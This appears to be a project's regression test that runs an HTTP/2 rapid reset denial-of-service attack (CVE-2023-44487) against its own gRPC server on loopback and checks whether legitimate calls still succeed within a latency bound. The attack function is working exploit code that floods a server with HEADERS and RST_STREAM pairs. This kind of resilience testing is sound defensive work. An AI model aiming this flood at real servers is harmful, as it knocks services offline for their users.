#!/usr/bin/python3
"""HTTP/2 rapid reset (CVE-2023-44487) against gradserve-server, on loopback, bounded in time.

One attacking connection opens a stream (HEADERS for Forward) and cancels it at once
(RST_STREAM), as fast as it can, while `gradserve bench` makes legitimate Backward calls on a
connection of its own. gRPC 1.51 (Debian 12) predates upstream's defence, so the server pays for
every stream; the goal is that legitimate calls still all succeed and their p99 latency stays
under --p99_bound_ms. Prints the figures; exits 1 when the goal is missed.

  /usr/bin/python3 tests/rapid_reset_probe.py --server build/server/gradserve-server \\
      --client build/client/gradserve --seconds 5

Needs python3-h2 (Debian's; run with /usr/bin/python3).
"""
import argparse
import json
import re
import socket
import subprocess
import sys
import threading
import time

import h2.config
import h2.connection
import h2.events
import h2.exceptions


def attack(port, seconds, stats):
    """Sends HEADERS + RST_STREAM pairs on one connection (reconnecting if the server closes it)."""
    headers = [(':method', 'POST'), (':scheme', 'http'), (':path', '/gradserve.v1.GradientService/Forward'),
               (':authority', f'127.0.0.1:{port}'), ('content-type', 'application/grpc'), ('te', 'trailers')]
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        sock = socket.create_connection(('127.0.0.1', port))
        sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True, header_encoding='utf-8'))
        conn.initiate_connection()
        sock.sendall(conn.data_to_send())
        sock.setblocking(False)
        try:
            while time.monotonic() < end:
                for _ in range(100):
                    sid = conn.get_next_available_stream_id()
                    conn.send_headers(sid, headers)
                    conn.reset_stream(sid)
                    stats['pairs'] += 1
                sock.setblocking(True)
                sock.sendall(conn.data_to_send())
                sock.setblocking(False)
                try:  # read what the server sends (SETTINGS, WINDOW_UPDATE, GOAWAY) without waiting
                    data = sock.recv(65536)
                    if not data:
                        break
                    for event in conn.receive_data(data):
                        if isinstance(event, h2.events.ConnectionTerminated):
                            stats['goaways'] += 1
                            raise ConnectionError('GOAWAY')
                    sock.setblocking(True)
                    sock.sendall(conn.data_to_send())
                    sock.setblocking(False)
                except BlockingIOError:
                    pass
        except (ConnectionError, OSError, h2.exceptions.ProtocolError):
            stats['reconnects'] += 1
        finally:
            sock.close()


def bench(client, address, seconds):
    out = subprocess.run([client, f'--target={address}', '--format=json', '--timeout=30', 'bench', '--rpc=backward',
                          '--shape=1,10', '--concurrency=1', f'--duration={seconds}'],
                         capture_output=True, text=True, timeout=seconds + 60)
    if out.returncode != 0:
        raise RuntimeError(f'gradserve bench failed ({out.returncode}): {out.stdout} {out.stderr}')
    return json.loads(out.stdout)


def main():
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument('--server', required=True)
    parser.add_argument('--client', required=True)
    parser.add_argument('--seconds', type=float, default=5)
    parser.add_argument('--server_arg', action='append', default=[], help='extra server flag (repeatable)')
    # Idle p99 here is ~1-10 ms and under attack ~40-600 ms on a loaded 2-core machine; 3 s is the
    # line between "slower" and "unavailable" that this probe guards.
    parser.add_argument('--p99_bound_ms', type=float, default=3000)
    args = parser.parse_args()

    server = subprocess.Popen([args.server, '--listen=127.0.0.1:0'] + args.server_arg, stdout=subprocess.PIPE, text=True)
    try:
        line = server.stdout.readline()
        match = re.search(r'listening on (\S+):(\d+)', line)
        if not match:
            print(f'rapid_reset_probe: server did not start: {line!r}')
            return 1
        address, port = f'{match.group(1)}:{match.group(2)}', int(match.group(2))
        threading.Thread(target=lambda: [None for _ in server.stdout], daemon=True).start()

        idle = bench(args.client, address, 2)
        stats = {'pairs': 0, 'reconnects': 0, 'goaways': 0}
        attacker = threading.Thread(target=attack, args=(port, args.seconds + 1, stats))
        attacker.start()
        time.sleep(0.5)  # the attack is at full speed before the measurement starts
        loaded = bench(args.client, address, args.seconds)
        attacker.join()
        alive = server.poll() is None

        rate = stats['pairs'] / (args.seconds + 1)
        print(f'idle:   {idle["requests"]} calls, {idle["errors"]} errors, p50 {idle["latency_ms"]["p50"]:.1f} ms, '
              f'p99 {idle["latency_ms"]["p99"]:.1f} ms, max {idle["latency_ms"]["max"]:.1f} ms')
        print(f'attack: {rate:,.0f} HEADERS+RST_STREAM pairs/s on one connection for {args.seconds + 1:g} s '
              f'({stats["reconnects"]} reconnects, {stats["goaways"]} GOAWAYs)')
        print(f'loaded: {loaded["requests"]} calls, {loaded["errors"]} errors, p50 {loaded["latency_ms"]["p50"]:.1f} ms, '
              f'p99 {loaded["latency_ms"]["p99"]:.1f} ms, max {loaded["latency_ms"]["max"]:.1f} ms '
              f'(bound {args.p99_bound_ms:g} ms)')
        failures = []
        if not alive:
            failures.append('the server died')
        if stats['pairs'] < 1000:
            failures.append(f'the attack did not run ({stats["pairs"]} pairs)')
        if loaded['requests'] == 0 or loaded['errors'] != 0:
            failures.append(f'legitimate calls failed: {loaded["errors"]} of {loaded["requests"]}')
        if loaded['latency_ms']['p99'] > args.p99_bound_ms:
            failures.append(f'p99 {loaded["latency_ms"]["p99"]:.0f} ms over {args.p99_bound_ms:g} ms')
        print('rapid_reset_probe: ' + ('; '.join(failures) if failures else 'passed'))
        return 1 if failures else 0
    finally:
        server.terminate()
        try:
            server.wait(timeout=30)
        except subprocess.TimeoutExpired:
            server.kill()


if __name__ == '__main__':
    sys.exit(main())
